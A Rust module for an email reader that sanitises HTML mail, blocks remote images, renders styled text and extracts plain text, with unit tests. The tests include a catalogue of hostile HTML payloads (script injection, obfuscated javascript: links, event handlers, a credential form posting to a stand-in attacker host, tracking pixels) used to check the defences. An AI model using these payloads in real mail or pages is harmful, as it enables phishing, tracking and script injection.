//! HTML mail made safe to show: ammonia sanitises it (no scripts, styles, forms, event handlers
//! or remote references), then html2text's rich mode turns it into styled spans that the reader
//! draws as rich text. Nothing here fetches anything: remote images are counted and dropped,
//! and only `cid:` images (parts of the message itself) are kept, to be shown from the cache.

use std::collections::HashSet;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use html2text::render::RichAnnotation;

/// A run of text with one style.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Span {
    pub text: String,
    pub bold: bool,
    pub italic: bool,
    pub mono: bool,
    pub strike: bool,
    /// A link's real target (http, https or mailto only).
    pub link: Option<String>,
    /// An inline image's Content-ID (from a `cid:` reference), to be shown from the cache.
    pub image: Option<String>,
}

impl Span {
    fn same_style(&self, other: &Span) -> bool {
        self.bold == other.bold
            && self.italic == other.italic
            && self.mono == other.mono
            && self.strike == other.strike
            && self.link == other.link
            && self.image == other.image
    }
}

/// An HTML body ready to draw.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Rendered {
    pub spans: Vec<Span>,
    /// Remote images that were dropped (never loaded).
    pub blocked: usize,
    /// Content-IDs of the inline images the HTML shows, in order, without duplicates.
    pub inline_images: Vec<String>,
}

/// The link schemes a reader may follow; everything else is removed.
const LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// Sanitises HTML for display and counts the remote images removed from it.
pub fn sanitise(html: &str) -> (String, usize) {
    let (clean, blocked, _) = sanitise_listing_images(html);
    (clean, blocked)
}

/// `sanitise`, and the Content-IDs of the message's own images the HTML shows, in order,
/// without duplicates (collected from every `<img src="cid:…">`, with or without alt text).
fn sanitise_listing_images(html: &str) -> (String, usize, Vec<String>) {
    let blocked = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&blocked);
    let cids: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
    let found = Arc::clone(&cids);
    let schemes: HashSet<&str> = LINK_SCHEMES.iter().copied().chain(["cid"]).collect();
    let clean = ammonia::Builder::default()
        .url_schemes(schemes)
        .url_relative(ammonia::UrlRelative::Deny)
        .strip_comments(true)
        .link_rel(Some("noopener noreferrer"))
        .attribute_filter(move |element, attribute, value| {
            let lower = value.trim_start().to_ascii_lowercase();
            match (element, attribute) {
                // Images: only parts of this message (cid:); remote ones are never loaded.
                ("img", "src") if lower.starts_with("cid:") => {
                    if let Some(cid) = content_id(value) {
                        let mut list = found
                            .lock()
                            .unwrap_or_else(std::sync::PoisonError::into_inner);
                        if !list.contains(&cid) && list.len() < MAX_LISTED_IMAGES {
                            list.push(cid);
                        }
                    }
                    Some(value.into())
                }
                ("img", "src") => {
                    if !lower.starts_with("data:") {
                        counter.fetch_add(1, Ordering::Relaxed);
                    }
                    None
                }
                // cid: is for images only; a link may not point into the message.
                (_, "href") if lower.starts_with("cid:") => None,
                _ => Some(value.into()),
            }
        })
        .clean(html)
        .to_string();
    let cids = std::mem::take(
        &mut *cids
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner),
    );
    (clean, blocked.load(Ordering::Relaxed), cids)
}

/// Inline images listed per message at most (the reader shows fewer).
const MAX_LISTED_IMAGES: usize = 64;

/// Sanitises `html` and lays it out as styled spans, wrapped at `width` columns. `None` when
/// html2text cannot read it (the caller shows the plain text instead).
pub fn render(html: &str, width: usize) -> Option<Rendered> {
    let (clean, blocked, listed) = sanitise_listing_images(html);
    let lines = html2text::config::rich()
        .no_table_borders()
        .unicode_strikeout(false)
        .lines_from_read(clean.as_bytes(), width.clamp(20, 400))
        .ok()?;
    let mut spans: Vec<Span> = Vec::new();
    // Every image the sanitiser kept, in document order (one without alt text gives html2text
    // nothing to annotate, so the spans alone would miss it).
    let mut inline_images = listed;
    for line in &lines {
        // html2text's rich mode marks headings with "# " and list items with "* " (Markdown);
        // the reader draws a heading in bold and a bullet as "•".
        let mut heading = false;
        for (index, piece) in line.tagged_strings().enumerate() {
            let mut text = piece.s.clone();
            let code = piece
                .tag
                .iter()
                .any(|a| matches!(a, RichAnnotation::Code | RichAnnotation::Preformat(_)));
            if index == 0 && !code {
                let hashes = text.len() - text.trim_start_matches('#').len();
                if (1..=6).contains(&hashes)
                    && text.get(hashes..).is_some_and(|r| r.starts_with(' '))
                {
                    heading = true;
                    text = text.get(hashes + 1..).unwrap_or_default().to_owned();
                } else if let Some(rest) = text.strip_prefix("* ") {
                    text = format!("• {rest}");
                }
            }
            let mut span = Span {
                text,
                bold: heading,
                ..Span::default()
            };
            for annotation in &piece.tag {
                match annotation {
                    RichAnnotation::Link(target) => {
                        let scheme = target.split(':').next().unwrap_or_default();
                        if LINK_SCHEMES
                            .iter()
                            .any(|s| s.eq_ignore_ascii_case(scheme.trim()))
                        {
                            span.link = Some(target.clone());
                        }
                    }
                    RichAnnotation::Image(src) => {
                        if let Some(cid) = content_id(src) {
                            if !inline_images.contains(&cid) {
                                inline_images.push(cid.clone());
                            }
                            span.image = Some(cid);
                        }
                    }
                    RichAnnotation::Strong => span.bold = true,
                    RichAnnotation::Emphasis => span.italic = true,
                    RichAnnotation::Strikeout => span.strike = true,
                    RichAnnotation::Code | RichAnnotation::Preformat(_) => span.mono = true,
                    _ => {}
                }
            }
            push(&mut spans, span);
        }
        push(
            &mut spans,
            Span {
                text: "\n".into(),
                ..Span::default()
            },
        );
    }
    // No trailing blank lines.
    while let Some(last) = spans.last_mut() {
        let trimmed = last.text.trim_end().len();
        if trimmed > 0 {
            last.text.truncate(trimmed);
            break;
        }
        spans.pop();
    }
    Some(Rendered {
        spans,
        blocked,
        inline_images,
    })
}

/// Appends a span, merged into the last one when the style is the same.
fn push(spans: &mut Vec<Span>, span: Span) {
    if let Some(last) = spans.last_mut()
        && last.same_style(&span)
    {
        last.text.push_str(&span.text);
    } else if !span.text.is_empty() {
        spans.push(span);
    }
}

/// The Content-ID a `cid:` URL names (RFC 2392: `cid:` then the id, URL-encoded, no brackets).
pub fn content_id(src: &str) -> Option<String> {
    let rest = src.trim();
    let rest = rest
        .get(..4)?
        .eq_ignore_ascii_case("cid:")
        .then(|| rest.get(4..))??;
    let decoded = percent_decode(rest);
    let id = decoded.trim().trim_start_matches('<').trim_end_matches('>');
    (!id.is_empty()).then(|| id.to_owned())
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match (b, hex) {
            (b'%', Some(value)) => {
                out.push(value);
                i += 3;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Elements that start a new line of text: their start and end tags become line breaks.
const BLOCKS: [&str; 27] = [
    "address",
    "article",
    "aside",
    "blockquote",
    "dd",
    "div",
    "dl",
    "dt",
    "figcaption",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "li",
    "main",
    "nav",
    "ol",
    "p",
    "pre",
    "section",
    "table",
];

/// Plain text of an HTML body, for the search index and the list's preview line: mail-parser's
/// converter (linear, no allocation per element), with a line break added at every block
/// element and a space at every table cell, which it would otherwise run together
/// ("<div>Review</div><div>Hello</div>" gives "Review\nHello", not "ReviewHello").
pub fn to_text(html: &str) -> String {
    let mut marked = String::with_capacity(html.len() + html.len() / 16);
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let (before, tag) = rest.split_at(at);
        marked.push_str(before);
        let name: String = tag
            .get(1..)
            .unwrap_or_default()
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .take(12)
            .map(|c| c.to_ascii_lowercase())
            .collect();
        if BLOCKS.contains(&name.as_str()) || name == "tr" {
            marked.push_str("<br>");
        } else if name == "td" || name == "th" {
            marked.push(' ');
        }
        marked.push('<');
        rest = tag.get(1..).unwrap_or_default();
    }
    marked.push_str(rest);
    mail_parser::decoders::html::html_to_text(&marked)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
mod tests {
    use super::*;

    fn text_of(r: &Rendered) -> String {
        r.spans.iter().map(|s| s.text.as_str()).collect()
    }

    /// Every way an HTML mail could run code or load something, in one message.
    const HOSTILE: &str = "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">\
        <base href=\"https://evil.test/\"><link rel=stylesheet href=\"https://evil.test/a.css\">\
        <style>@import url(https://evil.test/b.css); p { background: url(https://evil.test/c.png) }</style>\
        <script src=\"https://evil.test/d.js\"></script><script>steal()</script></head>\
        <body onload=\"steal()\" background=\"https://evil.test/bg.png\">\
        <p style=\"background-image: url('https://evil.test/e.png')\" onmouseover=\"steal()\">Dear user</p>\
        <img src=\"https://evil.test/pixel.gif\" width=1 height=1><img src=x onerror=\"steal()\">\
        <img srcset=\"https://evil.test/f.png 1x\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">\
        <svg onload=\"steal()\"><image href=\"https://evil.test/g.svg\"/></svg>\
        <iframe src=\"https://evil.test/h\"></iframe><iframe srcdoc=\"<script>steal()</script>\"></iframe>\
        <object data=\"https://evil.test/i.swf\"></object><embed src=\"https://evil.test/j.swf\">\
        <video poster=\"https://evil.test/k.png\" src=\"https://evil.test/l.mp4\"></video>\
        <audio src=\"https://evil.test/m.mp3\"></audio>\
        <form action=\"https://evil.test/n\"><input type=image src=\"https://evil.test/o.png\">\
        <input name=password><button formaction=\"https://evil.test/p\">Log in</button></form>\
        <a href=\"javascript:steal()\">one</a> <a href=\"JaVaScRiPt:steal()\">two</a> \
        <a href=\"java&#x09;script:steal()\">three</a> <a href=\"&#106;avascript:steal()\">four</a> \
        <a href=\"data:text/html;base64,PHNjcmlwdD4=\">five</a> <a href=\"vbscript:steal()\">six</a> \
        <a href=\"https://bank.test/\" ping=\"https://evil.test/q\">bank</a>\
        <table background=\"https://evil.test/r.png\"><tr><td>cell</td></tr></table>\
        <img src=\"cid:logo@example.test\" alt=\"Logo\"></body></html>";

    #[test]
    fn nothing_in_hostile_html_can_run_or_load() {
        let (clean, blocked) = sanitise(HOSTILE);
        let lower = clean.to_ascii_lowercase();
        for banned in [
            "<script",
            "steal",
            "onload",
            "onerror",
            "onmouseover",
            "<form",
            "<input",
            "<button",
            "formaction",
            "javascript",
            "vbscript",
            "data:",
            "url(",
            "@import",
            "<meta",
            "refresh",
            "<base",
            "<link",
            "<iframe",
            "srcdoc",
            "<object",
            "<embed",
            "<video",
            "<audio",
            "poster",
            "srcset",
            "<svg",
            "background",
            "style",
            "ping",
            "evil.test",
        ] {
            assert!(!lower.contains(banned), "{banned} survived: {clean}");
        }
        // Remote images are counted (the reader says some were blocked), the cid: one kept.
        assert!(blocked >= 1, "{blocked}");
        assert!(clean.contains("cid:logo@example.test"), "{clean}");
        let rendered = render(HOSTILE, 80).unwrap();
        for span in &rendered.spans {
            if let Some(link) = &span.link {
                assert_eq!(
                    link, "https://bank.test/",
                    "only the plain link is followable"
                );
            }
            if let Some(image) = &span.image {
                assert_eq!(image, "logo@example.test");
            }
        }
        let text = text_of(&rendered);
        for kept in ["Dear user", "one", "six", "bank", "cell"] {
            assert!(text.contains(kept), "{kept} is gone: {text}");
        }
        assert!(!text.contains("steal"), "{text}");
    }

    #[test]
    fn scripts_styles_and_handlers_are_removed() {
        let (clean, _) = sanitise(
            "<p onclick=\"steal()\">Hi<script>alert(1)</script><style>p{}</style>\
             <iframe src=\"https://x.test/\"></iframe><form action=\"https://x.test/\">\
             <input name=a></form></p>",
        );
        assert!(!clean.contains("script"), "{clean}");
        assert!(!clean.contains("onclick"), "{clean}");
        assert!(!clean.contains("iframe"), "{clean}");
        assert!(!clean.contains("form"), "{clean}");
        assert!(!clean.contains("p{}"), "{clean}");
        assert!(clean.contains("Hi"));
    }

    #[test]
    fn remote_images_are_dropped_and_counted_and_cid_images_kept() {
        let html = "<p>a<img src=\"https://tracker.test/p.gif\" alt=\"pixel\">\
                    <img src='HTTP://x.test/2.png'><img src=\"cid:logo%40example.test\" alt=\"Logo\"></p>";
        let (clean, blocked) = sanitise(html);
        assert_eq!(blocked, 2);
        assert!(!clean.contains("tracker.test"), "{clean}");
        assert!(!clean.contains("x.test"), "{clean}");
        assert!(clean.contains("cid:logo"), "{clean}");
        let rendered = render(html, 80).unwrap();
        assert_eq!(rendered.blocked, 2);
        assert_eq!(rendered.inline_images, vec!["logo@example.test".to_owned()]);
    }

    #[test]
    fn links_keep_their_real_target_and_unsafe_schemes_are_removed() {
        let rendered = render(
            "<p>Go <a href=\"https://bank.test/login\">to https://bank.example</a> or \
             <a href=\"javascript:alert(1)\">here</a> or <a href=\"file:///etc/passwd\">there</a>\
             or <a href=\"mailto:jo@example.test\">mail</a></p>",
            80,
        )
        .unwrap();
        let links: Vec<&str> = rendered
            .spans
            .iter()
            .filter_map(|s| s.link.as_deref())
            .collect();
        assert_eq!(links, ["https://bank.test/login", "mailto:jo@example.test"]);
        let text = text_of(&rendered);
        assert!(text.contains("here"), "{text}");
        assert!(!text.contains("javascript"), "{text}");
    }

    #[test]
    fn emphasis_becomes_styled_spans() {
        let rendered = render(
            "<p>plain <b>bold</b> <i>italic</i> <code>mono</code> <s>gone</s></p>",
            80,
        )
        .unwrap();
        let find = |t: &str| {
            rendered
                .spans
                .iter()
                .find(|s| s.text.contains(t))
                .unwrap_or_else(|| panic!("{t} in {:?}", rendered.spans))
        };
        assert!(find("bold").bold);
        assert!(find("italic").italic);
        assert!(find("mono").mono);
        assert!(find("gone").strike);
        assert!(!find("plain").bold);
    }

    #[test]
    fn paragraphs_and_lists_keep_their_shape() {
        let rendered = render(
            "<h1>Title</h1><p>First paragraph.</p><ul><li>one</li><li>two</li></ul>",
            80,
        )
        .unwrap();
        let text = text_of(&rendered);
        assert!(text.contains("Title"), "{text}");
        assert!(text.contains("First paragraph.\n"), "{text}");
        assert!(text.contains("one\n"), "{text}");
        assert!(!text.ends_with('\n'));
    }

    #[test]
    fn garbage_does_not_panic() {
        for input in [
            "",
            "<",
            "<<<>>>",
            "<table><tr><td>",
            "\u{0}\u{ffff}<a href=>",
            "&#x110000;",
        ] {
            // Whatever comes out: no link, no image, nothing blocked, no NUL, and the same
            // every time.
            let first = render(input, 80);
            if let Some(r) = &first {
                assert_eq!(r.blocked, 0, "{input:?}");
                assert!(r.inline_images.is_empty(), "{input:?}");
                assert!(
                    r.spans
                        .iter()
                        .all(|s| s.link.is_none() && s.image.is_none()),
                    "{input:?}"
                );
                assert!(r.spans.iter().all(|s| !s.text.contains('\0')), "{input:?}");
            }
            assert_eq!(
                first.map(|r| r.spans.iter().map(|s| s.text.clone()).collect::<String>()),
                render(input, 80).map(|r| r
                    .spans
                    .iter()
                    .map(|s| s.text.clone())
                    .collect::<String>()),
                "{input:?}"
            );
        }
        // Markup with no text renders as no text.
        let empty = render("<table><tr><td>", 80)
            .map(|r| r.spans.iter().map(|s| s.text.clone()).collect::<String>());
        assert!(empty.unwrap_or_default().trim().is_empty());
    }

    #[test]
    fn inline_images_without_alt_text_are_listed() {
        let r = render(
            "<p>Hi</p><img src=\"cid:one@x\"><img src=\"cid:two@x\" alt=\"Two\"><img src=\"cid:one@x\"><img src=\"https://t.example/p.gif\">",
            80,
        )
        .unwrap();
        assert_eq!(r.inline_images, ["one@x", "two@x"]);
        assert_eq!(r.blocked, 1);
    }

    #[test]
    fn content_ids_are_decoded() {
        assert_eq!(content_id("cid:a%40b").as_deref(), Some("a@b"));
        assert_eq!(content_id("CID:<x@y>").as_deref(), Some("x@y"));
        assert_eq!(content_id("https://x"), None);
        assert_eq!(content_id("cid:"), None);
        assert_eq!(content_id("cid:%zz").as_deref(), Some("%zz"));
    }

    #[test]
    fn blocks_and_cells_keep_their_words_apart() {
        let text = to_text(
            "<html><head><title>T</title><style>p{}</style></head><body><div>Review</div><DIV>Hello <b>you</b></DIV><h1>Title</h1><ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table></body></html>",
        );
        let words: Vec<&str> = text.split_whitespace().collect();
        assert_eq!(
            words,
            [
                "Review", "Hello", "you", "Title", "one", "two", "a", "b", "c"
            ]
        );
        assert!(text.contains("Review\n"), "{text:?}");
        // Broken markup and non-ASCII survive.
        let odd = to_text("caf\u{e9} <div <p>x</p> < y <");
        assert!(odd.contains("caf\u{e9}") && odd.contains('x'), "{odd:?}");
    }
}
